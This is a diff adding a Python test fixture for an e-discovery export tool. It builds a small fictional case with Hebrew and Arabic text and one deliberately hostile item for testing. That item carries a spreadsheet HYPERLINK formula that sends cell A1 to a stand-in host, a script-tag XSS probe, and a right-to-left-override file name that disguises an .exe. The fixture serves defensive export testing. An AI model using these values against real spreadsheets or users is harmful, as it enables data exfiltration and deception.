@@ -1,0 +1,126 @@
+"""A small case in memory for the tests of the export: fictional people, hostile names, three scripts."""
+
+from __future__ import annotations
+
+import hashlib
+from collections.abc import Sequence
+from dataclasses import replace
+
+from triage.export.contract import Order
+from triage.model import Decision, Item, ItemId, ItemNo, Problem, Row, Segment, Span, Status, Trouble
+from triage.scope.policy import Allow, Deny, Policy
+
+HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"<script>alert(1)</script>")'
+HEBREW = "הצעה לפרויקט כחול 2024"
+ARABIC = "ملاحظات حول المشروع"
+
+PROBLEM = Problem("encrypted", "offer.zip needs a password.", "not", "mail/9.eml", ItemId("f" * 20))
+
+ORDER = Order(
+    case="Bluebird",
+    reviewer="Dana Levi",
+    query="tag:relevant",
+    reading="items tagged relevant",
+    policy=Policy(
+        "Suspected bid rigging",
+        "General Counsel, 2 May 2024",
+        (Allow("mail", "/nowhere/evidence", "Avi Cohen", "employment contract"),),
+        (Deny("customers", "customer-data/**", "belongs to customers"),),
+    ),
+    status=Status("Bluebird", "fts5", 12, 9, 1, 2, 30, 4, 27, 2, 1, 3, 5, (("relevant", 3),), (), (), ""),
+    not_searchable=1,
+    partly=2,
+    problems=(PROBLEM, PROBLEM, Problem("charset-guessed", "It was guessed.", "fully", "mail/8.eml")),
+    ledger_head="1" * 64,
+    audit_head="a" * 64,
+    created="2024-05-03T09:30:00+00:00",
+    version="0.1.0",
+)
+
+
+class Records:
+    """A Desk over a few items; natives are kept beside them."""
+
+    def __init__(self) -> None:
+        self.items: dict[ItemNo, Item] = {}
+        self.natives: dict[ItemNo, bytes | Trouble] = {}
+        self.said: dict[ItemNo, list[Decision]] = {}
+        self.hits: dict[ItemNo, list[Span]] = {}
+
+    def add(self, data: bytes, parent: ItemNo | None = None, tags: tuple[str, ...] = (), **fields: str) -> ItemNo:
+        """Add an item; fields are those of Row or Item, ``text`` is its body."""
+        no = ItemNo(len(self.items) + 1)
+        digest = hashlib.sha256(data).hexdigest()
+        row = Row(
+            no=no,
+            id=ItemId(hashlib.sha256(f"{no}".encode()).hexdigest()[:20]),
+            date=fields.get("date", "2024-05-01T08:00:00Z"),
+            sender=fields.get("sender", "Avi Cohen <avi@bluebird.example>"),
+            subject=fields.get("subject", f"Subject {no}"),
+            name=fields.get("name", f"{no}.eml"),
+            type=fields.get("type", "eml"),
+            custodian="Avi Cohen",
+            size=len(data),
+            path=fields.get("path", f"inbox/{no}.eml"),
+            attachments=0,
+            parent=parent,
+            searchable="fully",
+            tags=tags,
+        )
+        self.items[no] = Item(
+            row=row, root="mail", path=row.path, member=fields.get("member", ""), sha256=digest, mih="", digest=digest,
+            family=self.items[parent].family if parent else no, thread="", to=("Noa <noa@bluebird.example>",), cc=(),
+            bcc=(), date_raw="Wed, 1 May 2024 11:00:00 +0300", date_kind="sent", message_id=f"<{no}@bluebird.example>",
+            references=(), properties=(), segments=(Segment("body", fields.get("text", "Please keep this quiet.")),),
+            problems=(),
+        )  # fmt: skip
+        self.natives[no] = data
+        self.said[no] = [
+            Decision(no * 10 + at, row.id, "tag", tag, "Dana Levi", "2024-05-02T10:00:00Z", "key", no)
+            for at, tag in enumerate(tags)
+        ]
+        return no
+
+    def change(self, no: ItemNo, **fields: object) -> None:
+        """Replace fields of an item."""
+        self.items[no] = replace(self.items[no], **fields)  # type: ignore[arg-type]
+
+    def item(self, no: ItemNo) -> Item:
+        return self.items[no]
+
+    def rows(self, nos: Sequence[ItemNo]) -> list[Row]:
+        return [self.items[no].row for no in nos]
+
+    def decisions(self, no: ItemNo) -> list[Decision]:
+        return self.said[no]
+
+    def family(self, no: ItemNo) -> list[ItemNo]:
+        return [other for other, item in self.items.items() if item.family == self.items[no].family]
+
+    def duplicates(self, no: ItemNo) -> list[ItemNo]:
+        return [other for other, item in self.items.items() if item.digest == self.items[no].digest]
+
+    def spans(self, text: str, item: Item) -> list[Span]:
+        return self.hits.get(item.row.no, [])
+
+    def native(self, item: Item) -> bytes | Trouble:
+        return self.natives[item.row.no]
+
+
+def sample() -> Records:
+    """Five items: a mail with an attachment, its duplicate in another mailbox, a Hebrew one, a hostile one."""
+    records = Records()
+    mail = records.add(b"Subject: one\r\n\r\nbody", tags=("relevant",), date="2024-05-01T08:00:00Z")
+    records.add(b"%PDF-1.7", parent=mail, tags=("relevant", "hot"), name="offer.pdf", type="pdf", member="0",
+                path="inbox/1.eml", date="")  # fmt: skip
+    records.add(b"Subject: one\r\n\r\nbody", path="archive/x.eml")
+    records.add(
+        HEBREW.encode(), tags=("relevant",), subject=HEBREW, text=f"{ARABIC}\n{HEBREW}", date="2024-04-01T08:00:00Z"
+    )
+    records.add(b"x", tags=("relevant",), subject=HOSTILE, sender="@evil <e@x.invalid>", name="invoice\u202efdp.exe",
+                text=f"{HOSTILE} \x07", date="2024-06-01T08:00:00Z")  # fmt: skip
+    return records
+
+
+CHOSEN = [ItemNo(5), ItemNo(2), ItemNo(4), ItemNo(1)]
+EXPECTED_ORDER = [4, 1, 2, 5]
